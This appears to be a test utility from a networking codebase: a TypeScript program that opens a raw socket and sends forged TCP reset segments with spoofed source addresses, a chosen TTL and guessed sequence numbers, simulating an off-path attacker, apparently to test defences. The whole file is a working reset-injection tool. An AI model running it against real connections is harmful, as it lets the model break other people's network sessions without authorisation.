/**
 * A program: sends forged TCP segments with a TTL of one's choice, as an attacker some hops away would.
 *
 * Usage: forge-tcp.ts FROM FROM-PORT TO TO-PORT TTL COUNT: resets with guessed sequence numbers.
 */
import { nativeSockets } from '../../src/io/native.ts';
import { encodeSockaddr } from '../../src/io/sockaddr.ts';
import { SOCK_RAW } from '../../src/io/socket-options.ts';
import { ip } from '../../src/net/ip-address.ts';

const AF_INET = 2;
/** The IP header is ours too (raw(7)); the kernel fills in its length and checksum. */
const IPPROTO_RAW = 255;
const RST_ACK = 0x14;

const [from = '', fromPort = '', to = '', toPort = '', ttl = '', count = ''] =
  process.argv.slice(2);
const native = nativeSockets();
const fd = native.socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
if (fd < 0) throw new Error(`socket: errno ${-fd}`);
const connected = native.connect(fd, encodeSockaddr({ address: ip(to), port: 0 }));
if (connected < 0) throw new Error(`connect: errno ${-connected}`);
for (let i = 0; i < Number(count); i++) {
  const packet = segment((i * 0x9e3779b1) >>> 0);
  const sent = native.send(fd, packet, 0, packet.length);
  if (sent < 0) throw new Error(`send: errno ${-sent}`);
}
native.close(fd);

function segment(sequence: number): Buffer {
  const packet = Buffer.alloc(40);
  packet.set([0x45, 0, 0, 40, 0, 0, 0, 0, Number(ttl), 6]);
  packet.set(from.split('.').map(Number), 12);
  packet.set(to.split('.').map(Number), 16);
  packet.writeUInt16BE(Number(fromPort), 20);
  packet.writeUInt16BE(Number(toPort), 22);
  packet.writeUInt32BE(sequence, 24);
  packet.set([0x50, RST_ACK, 0xff, 0xff], 32);
  packet.writeUInt16BE(checksum(packet), 36);
  return packet;
}

/** RFC 9293 §3.1: over the pseudo header and the segment. */
function checksum(packet: Buffer): number {
  let sum = 6 + 20;
  for (let at = 12; at < 40; at += 2) sum += packet.readUInt16BE(at);
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
  return ~sum & 0xffff;
}
